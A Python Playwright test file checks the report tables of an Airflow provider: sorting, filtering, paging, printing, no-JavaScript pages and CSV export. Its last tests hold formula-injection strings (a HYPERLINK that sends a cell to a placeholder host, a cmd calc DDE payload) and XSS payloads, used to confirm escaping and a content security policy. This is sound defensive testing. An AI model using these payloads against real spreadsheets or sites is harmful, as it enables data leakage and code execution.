"""The tables of reports in a real browser: filter, sort, more rows, CSV, paper, and a page without JavaScript."""

from __future__ import annotations

from pathlib import Path
from typing import Any

import pytest
from playwright.sync_api import Browser, Page, expect

from airflow_provider_canvas.html.pages import load_page
from tests.support.browser import exported, open_page

ROWS = [("Algebra", "7", "completed"), ("biology", "10", "failed"), ("Chemie", "", "completed"), ("Äther", "9", "lost")]

TEMPLATE = """{% extends "page.html.j2" %}
{% from "macros.html.j2" import linked %}
{% block title %}Test{% endblock %}
{% block style %}{% endblock %}
{% block footer %}{% endblock %}
{% macro table(rows) %}
<table><thead><tr>
  <th data-parts="Name|Code">Name</th><th>Minutes</th><th data-choices>State</th>
</tr></thead><tbody>
{% for name, minutes, state in rows %}
<tr><td>{{ linked(name, "") }}<span>c-{{ name }}</span></td>
<td data-value="{{ minutes }}">{{ minutes }} min</td><td>{{ state }}</td></tr>
{% endfor %}
</tbody></table>
{% endmacro %}
{% block main %}
<section data-export="a/b copies"><div class="tools"></div>
{{ table(rows[:first]) }}
{% if rows[first:] %}<details class="rest"><summary>more</summary>{{ table(rows[first:]) }}</details>{% endif %}
</section>
{% endblock %}
"""


def page(folder: Path, rows: list[Any] = ROWS, first: int = 50) -> str:
    (folder / "test.html.j2").write_text(TEMPLATE, encoding="utf-8")
    return load_page(folder, "test.html.j2").render(rows=rows, first=first)


def names(tab: Page) -> list[str]:
    return tab.locator("tbody tr td:first-child > :first-child").all_inner_texts()


def many(number: int) -> list[tuple[str, str, str]]:
    return [(f"Course {n}", str(n), "failed" if n % 10 == 0 else "completed") for n in range(1, number + 1)]


def test_sort(tab: Page, tmp_path: Path) -> None:
    """A click sorts, numbers as numbers and without regard to case; a second reverses, a third restores the order."""
    open_page(tab, tmp_path, page(tmp_path))
    heading = tab.get_by_role("button", name="Name")
    orders = []
    for _ in range(3):
        heading.click()
        orders.append(names(tab))
    assert orders[0] == ["Algebra", "Äther", "biology", "Chemie"]
    assert orders[1] == orders[0][::-1]
    assert orders[2] == [row[0] for row in ROWS]


def test_sort_by_values(tab: Page, tmp_path: Path) -> None:
    """Numbers are sorted by value; rows without a value are last in both directions, and the heading says the order."""
    open_page(tab, tmp_path, page(tmp_path))
    heading = tab.get_by_role("columnheader", name="Minutes")
    tab.get_by_role("button", name="Minutes").click()
    assert names(tab) == ["Algebra", "Äther", "biology", "Chemie"]
    assert heading.get_attribute("aria-sort") == "ascending"
    tab.get_by_role("button", name="Minutes").click()
    assert names(tab) == ["biology", "Äther", "Algebra", "Chemie"]
    assert heading.get_attribute("aria-sort") == "descending"


def test_filter(tab: Page, tmp_path: Path) -> None:
    """The search field keeps the rows with all words, a choice those of one state; the count says how many."""
    open_page(tab, tmp_path, page(tmp_path))
    count = tab.locator(".tools output")
    expect(count).to_have_text("4 rows")
    tab.get_by_role("searchbox").fill("COMPLETED al")
    assert names(tab) == ["Algebra"]
    expect(count).to_have_text("1 of 4 rows")
    tab.get_by_role("searchbox").fill("")
    tab.get_by_role("combobox", name="State").select_option("completed")
    assert names(tab) == ["Algebra", "Chemie"]
    tab.get_by_role("searchbox").fill("no such row")
    assert names(tab) == []


def test_more_rows(tab: Page, tmp_path: Path) -> None:
    """The page shows the first rows of a long table; a button shows more, and the filter finds all."""
    open_page(tab, tmp_path, page(tmp_path, many(1200), 50))
    assert len(names(tab)) == 50
    assert tab.locator("details.rest").count() == 0
    tab.get_by_role("button", name="Show more of 1,200 rows").click()
    assert len(names(tab)) == 550
    tab.get_by_role("searchbox").fill("Course 1199")
    assert names(tab) == ["Course 1199"]
    expect(tab.locator(".more")).to_be_hidden()


def test_paper_has_all_rows(tab: Page, tmp_path: Path) -> None:
    """A printed page has all rows that match, and the screen has the first ones again afterwards."""
    open_page(tab, tmp_path, page(tmp_path, many(1200), 50))
    tab.evaluate("addEventListener('afterprint', () => { window.printed = true; })")
    tab.evaluate(
        "addEventListener('beforeprint', () => { window.rows = document.querySelectorAll('tbody tr').length; })"
    )
    tab.get_by_role("combobox", name="State").select_option("completed")
    pdf = tab.pdf()
    tab.wait_for_function("window.printed")
    assert tab.evaluate("window.rows") == 1080
    assert pdf.count(b"/Type /Page\n") > 15
    assert len(names(tab)) == 50


def test_without_javascript(chromium: Browser, tmp_path: Path) -> None:
    """Without JavaScript all rows are there: the first are shown, the rest unfolds, and no dead button is shown."""
    context = chromium.new_context(java_script_enabled=False)
    tab = context.new_page()
    open_page(tab, tmp_path, page(tmp_path, many(120), 50))
    assert len(names(tab)) == 120
    last = tab.get_by_text("Course 120", exact=True)
    assert not last.is_visible()
    tab.get_by_text("more", exact=True).click()
    assert last.is_visible()
    assert tab.get_by_role("button").count() == 0
    context.close()


def test_csv(tab: Page, tmp_path: Path) -> None:
    """The file has the rows that match, also those not shown, in the order of the page, and one column per part."""
    open_page(tab, tmp_path, page(tmp_path, many(1200), 50))
    tab.get_by_role("button", name="Minutes").click(click_count=2, delay=10)
    tab.get_by_role("combobox", name="State").select_option("failed")
    name, rows = exported(tab)
    assert name == "a_b_copies.csv"
    assert rows[0] == ["Name", "Code", "Minutes", "State"]
    assert rows[1] == ["Course 1200", "c-Course 1200", "1200", "failed"]
    assert len(rows) == 121


FORMULAS = [
    ('=HYPERLINK("http://h/?"&A1)', '\'=HYPERLINK("http://h/?"&A1)'),
    ("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"),
    ("-2+3", "'-2+3"),
    ("@SUM(A1)", "'@SUM(A1)"),
    ("\t=1+1", "'=1+1"),
    ("\r\n=1+1", "'=1+1"),
    ("  =1+1", "'=1+1"),
    ('"=1+1', "\"'=1+1"),
    ("\N{FULLWIDTH EQUALS SIGN}1+1", "'\N{FULLWIDTH EQUALS SIGN}1+1"),
    ("\N{NO-BREAK SPACE}=1", "'=1"),
    ("harmless;=1+1", "harmless;'=1+1"),
    ('harmless";"=1+1', 'harmless";"\'=1+1'),
    ("harmless\n=1+1", "harmless =1+1"),
    ("a=b, c-d; e", "a=b, c-d; e"),
    ("-3", "-3"),
    ("-3.5", "-3.5"),
    ("-3.5.1", "'-3.5.1"),
    ('He said "no", twice', 'He said "no", twice'),
]


@pytest.mark.parametrize("place", ["name", "value"])
def test_no_cell_of_the_csv_is_a_formula(tab: Page, tmp_path: Path, place: str) -> None:
    """An apostrophe makes a text of what a spreadsheet would run; numbers and other texts stay."""
    rows = [(text, "", "x") if place == "name" else ("x", text, "x") for text, _ in FORMULAS]
    open_page(tab, tmp_path, page(tmp_path, rows))
    cells = [row[0 if place == "name" else 2] for row in exported(tab)[1][1:]]
    assert cells == [expected for _, expected in FORMULAS]


HOSTILE = [
    "</script><script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "{{ 7*7 }}",
    "--><svg onload=alert(1)>",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_hostile_texts_stay_texts(tab: Page, tmp_path: Path, text: str) -> None:
    """Markup in a name, a value and a choice is shown as text, filtered, sorted and exported, and nothing runs."""
    open_page(tab, tmp_path, page(tmp_path, [(text, text, text), ("A", "1", "x")]))
    tab.get_by_role("combobox", name="State").select_option(text)
    tab.get_by_role("button", name="Name").click()
    assert names(tab) == [text]
    cell = f"'{text}" if text.startswith("-") else text
    assert exported(tab)[1][1] == [cell, f"c-{text}", cell, cell]
    assert tab.evaluate("document.scripts.length") == 1


def test_policy_stops_injected_scripts(chromium: Browser, tmp_path: Path) -> None:
    """A script and an image that reached the page in spite of the escaping do not run and are not fetched."""
    context = chromium.new_context()
    tab = context.new_page()
    stopped: list[tuple[str, str | None]] = []
    tab.on("requestfailed", lambda request: stopped.append((request.url, request.failure)))
    injected = "<script>window.ran = true</script><img src='http://127.0.0.1:9/x' onerror='window.ran = true'>"
    open_page(tab, tmp_path, page(tmp_path).replace("<main>", f"<main>{injected}"))
    assert tab.evaluate("window.ran") is None
    assert stopped == [("http://127.0.0.1:9/x", "csp")]
    expect(tab.locator(".tools output")).to_have_text("4 rows")
    context.close()
